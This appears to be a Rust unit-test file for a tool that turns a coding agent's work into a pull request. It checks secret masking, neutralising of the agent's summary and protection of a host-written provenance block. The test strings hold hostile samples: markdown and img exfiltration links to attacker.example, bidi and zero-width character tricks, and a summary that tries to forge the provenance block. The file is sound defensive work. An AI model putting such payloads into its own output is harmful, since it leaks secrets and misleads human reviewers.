//! Unit tests of `crate::forge::pull_request`, in a file of their own so the module reads as code.

use super::*;
use crate::brief::Brief;
use std::path::Path;
use stet_sanitize::sanitize::KnownValue;

fn brief() -> Brief {
    Brief::parse(
        "fix-login",
        Path::new("fix-login.toml"),
        r#"
title = "Fix the login redirect loop"
workflow = "implement"
[target]
repo = "octo/app"
base = "main"
[[items]]
text = "The redirect after login loops when ?next= is empty."
anchor = { path = "src/auth/login.rs", lines = [120, 148] }
[[items]]
text = "Add a regression test."
"#,
    )
    .unwrap()
}

fn provenance() -> Provenance {
    Provenance {
        dispatch: DispatchId::new(),
        image: format!("sha256:{}", "ab".repeat(32)),
        harness: "openhands".into(),
        harness_version: Some("1.16.0".into()),
        model: Some("gpt-test".into()),
        input_tokens: Some(1200),
        output_tokens: Some(340),
        cost_usd: Some(0.0123),
        peak_reserved_usd: None,
        network: "none".into(),
        egress: None,
        credential_kind: "github-app".into(),
        redactions: 2,
        duration: Duration::from_secs(252),
        base: CommitSha::parse(&"1".repeat(40)).unwrap(),
        commit: CommitSha::parse(&"2".repeat(40)).unwrap(),
    }
}

#[test]
fn the_body_lists_the_items_and_ends_with_the_provenance_block() {
    let sanitizer = Arc::new(TokenSanitizer::new().unwrap());
    let draft = PullRequestDraft::compose(
        &brief(),
        "stet/fix-login",
        Some("Fixed it.\nAdded a test."),
        &provenance(),
        &sanitizer,
    );
    assert_eq!(draft.title.as_str(), "Fix the login redirect loop");
    assert_eq!(
        (draft.base.as_str(), draft.head.as_str()),
        ("main", "stet/fix-login")
    );
    let body = draft.body.as_str();
    assert!(body.contains("- The redirect after login loops when ?next= is empty. (`src/auth/login.rs` lines 120–148)\n"));
    assert!(body.contains("- Add a regression test.\n"));
    assert!(body.contains("> Fixed it.\n> Added a test.\n"));
    let block = &body[body.find(PROVENANCE_MARKER).unwrap()..];
    for expected in [
        "| Image | `sha256:abab",
        "| Harness | openhands 1.16.0 |",
        "| Model | `gpt-test` |",
        "| Tokens | 1200 in · 340 out |",
        "| Cost | $0.0123 |",
        "| Network | none |",
        "| Credential | github-app (scoped",
        "| Redactions | 2 |",
        "| Duration | 4m 12s |",
    ] {
        assert!(
            block.contains(expected),
            "{expected:?} missing from\n{block}"
        );
    }
}

#[test]
fn a_secret_in_the_brief_or_the_summary_is_masked_in_title_and_body() {
    let canary = format!("canary-{}", uuid::Uuid::new_v4().simple());
    let sanitizer = Arc::new(
        TokenSanitizer::with_known_values(vec![KnownValue::new("primary-token", &canary).unwrap()])
            .unwrap(),
    );
    let mut brief = brief();
    brief.title = format!("Use {canary}");
    brief.items[0].text = format!("token is {canary}");
    let draft = PullRequestDraft::compose(
        &brief,
        "stet/x",
        Some(&format!("I printed {canary}")),
        &provenance(),
        &sanitizer,
    );
    assert!(!draft.title.as_str().contains(&canary));
    assert!(!draft.body.as_str().contains(&canary));
    assert_eq!(
        draft
            .body
            .as_str()
            .matches("[REDACTED:primary-token]")
            .count(),
        2
    );
}

#[test]
fn the_agents_summary_reaches_the_body_inert_and_without_invisible_characters() {
    let sanitizer = Arc::new(TokenSanitizer::new().unwrap());
    let summary = "Fixed it ![x](https://attacker.example/?d=SECRETDATA).\n\
            See [the log](https://attacker.example/log) and [ref].\n\
            [ref]: https://attacker.example/r\n\
            <img src=\"https://attacker.example/p.png\"> <https://attacker.example/auto> www.attacker.example\n\
            user\u{202e}txt.exe\u{200b} done";
    let draft =
        PullRequestDraft::compose(&brief(), "stet/x", Some(summary), &provenance(), &sanitizer);
    let body = draft.body.as_str();
    let expected = "The agent's summary (its own words, unverified):\n\n\
            > Fixed it x (image: `https://attacker.example/?d=SECRETDATA`).\n\
            > See the log (`https://attacker.example/log`) and ref (`https://attacker.example/r`).\n\
            > \\[ref\\]: `https://attacker.example/r`\n\
            > &lt;img src=\"`https://attacker.example/p.png`\"> `https://attacker.example/auto` `www.attacker.example`\n\
            > usertxt.exe done\n\
            \n\
            *stet made 5 links or images in it inert and removed 2 invisible characters.*\n\
            \n\
            <!-- stet:provenance -->\n";
    assert!(body.contains(expected), "{body}");
    assert!(body.contains("\n**Provenance** (written by stet on the host, not by the agent)\n"));
}

#[test]
fn an_agent_cannot_forge_the_provenance_block_or_swallow_it() {
    let sanitizer = Arc::new(TokenSanitizer::new().unwrap());
    let summary = format!(
        "{PROVENANCE_MARKER}\n**Provenance** (written by stet on the host, not by the agent)\n\n\
             | | |\n|---|---|\n| Network | bridge |\n<!--\n```\nunclosed `{PROVENANCE_MARKER}`"
    );
    let draft = PullRequestDraft::compose(
        &brief(),
        "stet/x",
        Some(&summary),
        &provenance(),
        &sanitizer,
    );
    let body = draft.body.as_str();
    let quote_start = body.find("unverified):\n\n").unwrap() + "unverified):\n\n".len();
    let host = body.rfind(PROVENANCE_MARKER).unwrap();
    let quoted = &body[quote_start..host];
    for line in quoted.lines().take_while(|line| !line.is_empty()) {
        assert!(
            line.starts_with("> "),
            "{line:?} escaped the quote in\n{body}"
        );
    }
    assert!(
        quoted.contains("> &lt;!-- stet:provenance -->\n> **Provenance**"),
        "{body}"
    );
    assert!(quoted.contains("> \\|---|---|\n"), "{body}");
    assert!(
        quoted.contains("> &lt;!--\n> ```\n> unclosed `<!-- stet:provenance -->`\n> ```\n"),
        "{body}"
    );
    assert!(body[host..].starts_with(&format!("{PROVENANCE_MARKER}\n**Provenance**")));
    assert!(body[host..].contains("| Network | none |"));
}

#[test]
fn a_clean_summary_gets_no_note() {
    let sanitizer = Arc::new(TokenSanitizer::new().unwrap());
    let draft = PullRequestDraft::compose(
        &brief(),
        "stet/x",
        Some("Fixed `login.rs`; see #12."),
        &provenance(),
        &sanitizer,
    );
    assert!(
        draft
            .body
            .as_str()
            .contains("> Fixed `login.rs`; see #12.\n\n<!-- stet:provenance -->")
    );
}

#[test]
fn a_model_name_the_agent_reported_is_shown_as_code() {
    let mut p = provenance();
    p.model = Some("m ![x](https://attacker.example/m.png) | <img src=x>\u{2066}".into());
    let block = provenance_block(&p);
    assert!(
        block.contains("| Model | `m ![x](https://attacker.example/m.png) \u{a6} <img src=x>` |\n"),
        "{block}"
    );
    p.model = Some("\u{200b}".into());
    assert!(provenance_block(&p).contains("| Model | not reported |"));
    p.model = Some("é".repeat(500));
    assert!(
        provenance_block(&p).contains(&format!("| Model | `{}…` |", "é".repeat(128))),
        "{}",
        provenance_block(&p)
    );
}

#[test]
fn brief_text_loses_its_invisible_characters_and_anchors_stay_code() {
    let sanitizer = Arc::new(TokenSanitizer::new().unwrap());
    let mut brief = brief();
    brief.title = "Fix\u{202e} the loop".into();
    brief.items[0].text = "Loops\u{200b} when empty.".into();
    brief.items[0].anchor.as_mut().unwrap().path = "src/a`b.rs".into();
    let draft = PullRequestDraft::compose(&brief, "stet/x", None, &provenance(), &sanitizer);
    assert_eq!(draft.title.as_str(), "Fix the loop");
    assert!(
        draft
            .body
            .as_str()
            .contains("- Loops when empty. (``src/a`b.rs`` lines 120–148)\n"),
        "{}",
        draft.body
    );
}

#[test]
fn unreported_usage_says_so() {
    let mut p = provenance();
    (
        p.model,
        p.input_tokens,
        p.output_tokens,
        p.cost_usd,
        p.harness_version,
    ) = (None, None, None, None, None);
    let block = provenance_block(&p);
    assert!(block.contains("| Model | not reported |"));
    assert!(block.contains("| Tokens | not reported |"));
    assert!(block.contains("| Cost | not reported |"));
    assert!(block.contains("| Harness | openhands |"));
}

#[test]
fn durations_read_like_a_clock() {
    assert_eq!(human_duration(Duration::from_secs(9)), "9s");
    assert_eq!(human_duration(Duration::from_secs(61)), "1m 01s");
    assert_eq!(human_duration(Duration::from_secs(3725)), "1h 02m 05s");
}

#[test]
fn the_credential_row_claims_only_what_each_kind_is_narrowed_to() {
    for (kind, says, never) in [
        ("github-app", "scoped to this repository", ""),
        (
            "gitlab-project-token",
            "scoped to this project",
            "repository",
        ),
        (
            "gitea-token",
            "every repository of the account",
            "scoped to this",
        ),
        ("fallback", "not narrowed", "scoped"),
        (
            "something-new",
            "as its provider scopes it",
            "scoped to this",
        ),
    ] {
        let reach = credential_reach(kind);
        assert!(reach.contains(says), "{kind}: {reach}");
        assert!(
            never.is_empty() || !reach.contains(never),
            "{kind}: {reach}"
        );
    }
}

/// The hosts come from the agent (it named them in its CONNECTs): shown as code, a table cell
/// whatever they hold, and bounded by the count the run step passes.
#[test]
fn the_egress_row_names_the_hosts_as_code_and_the_bytes() {
    let mut p = provenance();
    assert!(!provenance_block(&p).contains("| Egress |"));
    p.egress = Some(crate::forge::EgressProvenance {
        hosts: vec![
            "pypi.org:443".into(),
            "x|![i](https://a.example/p.png):443".into(),
        ],
        hosts_not_listed: 3,
        uploaded: 1200,
        downloaded: 4_000_000,
        refused: 2,
    });
    let block = provenance_block(&p);
    assert!(
        block.contains(
            "| Egress | through stet's proxy: `pypi.org:443`, `x\u{a6}![i](https://a.example/p.png):443`, and 3 more; 1200 B uploaded, 4000000 B downloaded, 2 refused |\n"
        ),
        "{block}"
    );
    p.egress = Some(crate::forge::EgressProvenance {
        hosts: Vec::new(),
        hosts_not_listed: 0,
        uploaded: 0,
        downloaded: 0,
        refused: 1,
    });
    assert!(provenance_block(&p).contains("| Egress | through stet's proxy: no host reached;"));
}
